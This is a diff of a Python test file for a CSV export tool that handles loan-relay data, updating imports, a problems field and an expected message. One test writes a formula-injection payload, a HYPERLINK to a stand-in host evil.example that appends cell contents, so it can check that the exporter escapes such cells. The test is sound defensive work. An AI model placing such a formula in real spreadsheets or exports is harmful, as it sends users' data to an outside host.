@@ -7,7 +7,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cli.waiting import COLUMNS, SECTIONS, as_csv, choose, of_call, problems, words_of
+from cli.show import words_of
+from cli.waiting import COLUMNS, SECTIONS, as_csv, choose, of_call, problems
 from relay_answers import refused, submission, waiting
 
 
@@ -70,7 +71,7 @@ def test_a_table_has_a_byte_order_mark_the_columns_and_a_row_for_each():
 def test_no_cell_is_a_formula(start):
     bad = f'{start}HYPERLINK("http://evil.example?"&A1)'
     row = refused(1) | {"loan_id": bad, "reference": bad, "next_step": bad}
-    row["problem"] = {"code": bad, "details": bad}
+    row["problems"] = [{"code": bad, "details": bad}]
     cells = rows_of(as_csv([row]))[1]
     assert [cell for cell in cells if cell.startswith(start)] == []
     assert cells.count(f"'{bad}") == 5
@@ -120,6 +121,6 @@ def test_a_call_is_found_by_any_of_its_submissions():
 
 
 def test_the_finding_on_the_row_is_told_before_that_on_the_call():
-    assert words_of(refused(1, reason="problems")) == "No loan with this id is known"
+    assert words_of(refused(1, reason="x")) == "repayment.loan_not_found: No loan with this id is known"
     assert words_of(submission(reason="refused")) == "refused"
     assert words_of({}) == ""
